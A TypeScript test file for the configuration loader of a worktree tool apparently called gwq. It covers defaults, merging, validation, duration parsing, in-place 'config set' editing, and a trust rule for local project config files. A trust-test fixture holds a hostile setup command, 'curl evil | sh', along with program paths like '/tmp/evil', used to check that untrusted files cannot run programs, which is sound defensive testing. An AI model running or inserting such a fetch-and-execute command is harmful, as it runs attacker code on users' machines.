// Config loading, merging, validation, `config set` editing and the trust rule, on real files.
import { test, describe, before, after } from "node:test";
import assert from "node:assert/strict";
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync, realpathSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { loadConfig } from "../../src/config/load.js";
import { parseDuration, formatDuration } from "../../src/config/duration.js";
import { setInToml, writeConfigValue, parseValueForKey } from "../../src/config/edit.js";
import { trustFile } from "../../src/config/trust.js";
import { parse } from "smol-toml";

let root: string;
let globalPath: string;
let cwd: string;

before(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "gwq-cfg-")));
  process.env.HOME = join(root, "home");
  process.env.XDG_STATE_HOME = join(root, "state");
  process.env.XDG_CONFIG_HOME = join(root, "config");
  mkdirSync(join(root, "config", "gwq"), { recursive: true });
  globalPath = join(root, "config", "gwq", "config.toml");
  cwd = join(root, "project");
  mkdirSync(cwd, { recursive: true });
});
after(() => rmSync(root, { recursive: true, force: true }));

function reset(globalToml: string | null, localToml: string | null) {
  rmSync(globalPath, { force: true });
  rmSync(join(cwd, ".gwq.toml"), { force: true });
  if (globalToml !== null) writeFileSync(globalPath, globalToml);
  if (localToml !== null) writeFileSync(join(cwd, ".gwq.toml"), localToml);
}

describe("defaults", () => {
  test("every key has the Go gwq / seed default, paths expanded", () => {
    reset(null, null);
    const { config, warnings } = loadConfig({ cwd, globalPath });
    assert.deepEqual(warnings, []);
    assert.equal(config.worktree.basedir, join(root, "home", "worktrees"));
    assert.equal(config.worktree.auto_mkdir, true);
    assert.equal(config.naming.template, "{{.Host}}/{{.Owner}}/{{.Repository}}/{{.Branch}}");
    assert.deepEqual(config.naming.sanitize_chars, { "/": "-", ":": "-" });
    assert.equal(config.finder.preview, true);
    assert.equal(config.cd.launch_shell, true);
    assert.equal(config.cd.auto_cd_on_add, false);
    assert.equal(config.tmux.enabled, true);
    assert.equal(config.tmux.history_limit, 50000);
    assert.equal(config.tmux.session_timeout, 24 * 3600 * 1000);
    assert.equal(config.tmux.history_save_dir, join(root, "home", ".gwq", "history"));
    assert.equal(config.tmux.tmux_command, "tmux");
    assert.match(config.tmux.default_shell, /^\/bin\/(ba)?sh$/);
  });
});

describe("merging", () => {
  test("global overrides defaults, local overrides global", () => {
    reset('[tmux]\nhistory_limit = 1000\nkeep_alive = false\n[worktree]\nbasedir = "~/wt"\n', "[tmux]\nhistory_limit = 2000\n");
    const { config, sources } = loadConfig({ cwd, globalPath });
    assert.equal(config.tmux.history_limit, 2000);
    assert.equal(config.tmux.keep_alive, false);
    assert.equal(config.worktree.basedir, join(root, "home", "wt"));
    assert.equal(sources["tmux.history_limit"], join(cwd, ".gwq.toml"));
    assert.equal(sources["tmux.keep_alive"], globalPath);
    assert.equal(sources["tmux.enabled"], "default");
  });

  test("repository_settings merge by repository: same one replaced, others kept", () => {
    reset(
      '[[repository_settings]]\nrepository = "~/src/a"\ncopy_files = [".env"]\n[[repository_settings]]\nrepository = "~/src/b"\ncopy_files = ["x"]\n',
      '[[repository_settings]]\nrepository = "~/src/a"\ncopy_files = ["local"]\n',
    );
    const pick = () => loadConfig({ cwd, globalPath }).config.repository_settings;
    // Untrusted, the local file cannot replace the user's own setting.
    assert.deepEqual(pick().find((r) => r.repository.endsWith("/src/a"))!.copy_files, [".env"]);
    const p = join(cwd, ".gwq.toml");
    trustFile(p, readFileSync(p));
    assert.equal(pick().length, 2);
    assert.deepEqual(pick().find((r) => r.repository.endsWith("/src/a"))!.copy_files, ["local"]);
    // Later tests write other content at this path: no "changed since it was trusted" for them.
    rmSync(join(root, "state", "gwq", "trusted.json"));
  });

  test("durations: 24h, 90m, 1h30m, 0", () => {
    for (const [text, ms] of [
      ["24h", 86400000],
      ["90m", 5400000],
      ["1h30m", 5400000],
      ["7d", 604800000],
      ["0", 0],
      ["500ms", 500],
      ["1.5s", 1500],
      ["1m30s", 90000],
      [" 2h ", 7200000],
    ] as const) {
      assert.equal(parseDuration(text), ms, text);
    }
    for (const text of ["lots", "-1h", "", "1h 30m", "1h30", "h", "1x", "1h30mx", "1.h"]) assert.equal(parseDuration(text), null, text);
    reset('[tmux]\nsession_timeout = "1h30m"\n', null);
    assert.equal(loadConfig({ cwd, globalPath }).config.tmux.session_timeout, 5400000);
    reset("[tmux]\nsession_timeout = 0\n", null);
    assert.equal(loadConfig({ cwd, globalPath }).config.tmux.session_timeout, 0);
    assert.equal(formatDuration(45_000), "45s");
    assert.equal(formatDuration(12 * 60_000), "12m");
    assert.equal(formatDuration(85 * 60_000), "1h 25m");
    assert.equal(formatDuration(51 * 3600_000), "2d 3h");
  });
});

describe("validation", () => {
  test("a wrong type names the file, the key and what was expected", () => {
    reset('[tmux]\nhistory_limit = "lots"\n', null);
    assert.throws(() => loadConfig({ cwd, globalPath }), (e: Error) => {
      assert.ok(e.message.includes(globalPath), e.message);
      assert.ok(e.message.includes("tmux.history_limit"), e.message);
      assert.ok(e.message.includes("expected an integer"), e.message);
      return true;
    });
  });

  test("booleans, durations and maps are checked", () => {
    reset('[tmux]\nenabled = "yes"\n', null);
    assert.throws(() => loadConfig({ cwd, globalPath }), /tmux\.enabled: expected true or false, got "yes"/);
    reset('[tmux]\nsession_timeout = "soon"\n', null);
    assert.throws(() => loadConfig({ cwd, globalPath }), /tmux\.session_timeout: expected a duration/);
    reset("[naming]\nsanitize_chars = 3\n", null);
    assert.throws(() => loadConfig({ cwd, globalPath }), /naming\.sanitize_chars: expected a table of strings/);
    reset("[tmux]\nhistory_limit = 0\n", null);
    assert.throws(() => loadConfig({ cwd, globalPath }), /at least 1/);
  });

  test("invalid TOML names the file and the line", () => {
    reset("[tmux]\nhistory_limit = = 3\n", null);
    assert.throws(() => loadConfig({ cwd, globalPath }), (e: Error) => {
      assert.ok(e.message.startsWith(`${globalPath}:2:`), e.message);
      assert.ok(e.message.includes("invalid TOML"));
      assert.ok(!e.message.includes("\n"), "one line");
      return true;
    });
  });

  test("unknown keys are warnings, not errors", () => {
    reset("[tmux]\nhistory_limt = 5\n[colour]\nx = 1\n", null);
    const { warnings, config } = loadConfig({ cwd, globalPath });
    assert.equal(config.tmux.history_limit, 50000);
    assert.ok(warnings.some((w) => w.includes('unknown key "tmux.history_limt"')), warnings.join("|"));
    assert.ok(warnings.some((w) => w.includes('unknown key "colour.x"')), warnings.join("|"));
  });

  test("an unreadable file is an error naming it", { skip: process.getuid?.() === 0 ? "root reads everything" : false }, () => {
    reset("[tmux]\n", null);
    chmodSync(globalPath, 0);
    assert.throws(() => loadConfig({ cwd, globalPath }), /permission denied/);
  });
});

describe("trust", () => {
  const local = '[tmux]\ntmux_command = "/tmp/evil"\ndefault_shell = "/tmp/evil-sh"\nhistory_limit = 123\n[[repository_settings]]\nrepository = "~/src/x"\nsetup_commands = ["curl evil | sh"]\ncopy_files = [".env"]\n';

  test("an untrusted local file cannot choose programs; other keys apply", () => {
    reset(null, local);
    const { config, warnings } = loadConfig({ cwd, globalPath });
    assert.equal(config.tmux.tmux_command, "tmux");
    assert.notEqual(config.tmux.default_shell, "/tmp/evil-sh");
    assert.equal(config.tmux.history_limit, 123);
    // A repository setting is dropped whole: copy_files writes into a worktree the branch shaped.
    assert.deepEqual(config.repository_settings, []);
    assert.ok(warnings.some((w) => w.includes("tmux.tmux_command ignored")), warnings.join("|"));
    assert.ok(warnings.some((w) => w.includes("setup_commands ignored")), warnings.join("|"));
    assert.ok(warnings.some((w) => w.includes("copy_files ignored")), warnings.join("|"));
  });

  test("trusted for its path and content; a change untrusts it", () => {
    reset(null, local);
    const p = join(cwd, ".gwq.toml");
    trustFile(p, readFileSync(p));
    let { config, warnings } = loadConfig({ cwd, globalPath });
    assert.equal(config.tmux.tmux_command, "/tmp/evil");
    assert.deepEqual(config.repository_settings[0]!.setup_commands, ["curl evil | sh"]);
    assert.deepEqual(warnings, []);
    writeFileSync(p, local.replace("/tmp/evil", "/tmp/other"));
    ({ config, warnings } = loadConfig({ cwd, globalPath }));
    assert.equal(config.tmux.tmux_command, "tmux");
    assert.ok(warnings.some((w) => w.includes("changed since it was trusted")));
  });

  test("the global file is always trusted", () => {
    reset('[tmux]\ntmux_command = "/usr/bin/tmux"\n', null);
    assert.equal(loadConfig({ cwd, globalPath }).config.tmux.tmux_command, "/usr/bin/tmux");
  });
});

describe("config set keeps the user's file", () => {
  const original = "# my gwq settings\n\n[tmux]\n# keep lots\nhistory_limit = 1000 # was 2000\nkeep_alive = true\n\n[worktree]\n# where\nbasedir = \"~/wt\"\n";

  test("replaces a value in place, comments and layout kept", () => {
    const next = setInToml(original, "tmux.history_limit", 9000);
    assert.equal(next, original.replace("history_limit = 1000 # was 2000", "history_limit = 9000 # was 2000"));
  });

  test("adds a key to an existing table and a new table at the end", () => {
    let next = setInToml(original, "tmux.history_auto_save", false);
    assert.ok(next.includes("keep_alive = true\nhistory_auto_save = false\n"), next);
    next = setInToml(next, "cd.launch_shell", false);
    assert.ok(next.endsWith('basedir = "~/wt"\n\n[cd]\nlaunch_shell = false\n'), next);
    assert.ok(next.startsWith("# my gwq settings\n"));
    const doc = parse(next) as any;
    assert.equal(doc.tmux.history_auto_save, false);
    assert.equal(doc.cd.launch_shell, false);
    assert.equal(doc.tmux.history_limit, 1000);
  });

  test("writes a new file, and validates values by key type", () => {
    const p = join(root, "new", "config.toml");
    writeConfigValue(p, "", "tmux.session_timeout", parseValueForKey("tmux.session_timeout", "90m"));
    assert.equal(readFileSync(p, "utf8"), '[tmux]\nsession_timeout = "90m"\n');
    assert.throws(() => parseValueForKey("tmux.history_limit", "lots"), /tmux\.history_limit: expected an integer/);
    assert.throws(() => parseValueForKey("tmux.keep_alive", "maybe"), /expected true or false/);
    assert.throws(() => parseValueForKey("no.such", "1"), /unknown config key/);
    assert.equal(parseValueForKey("tmux.keep_alive", "false"), false);
  });
});
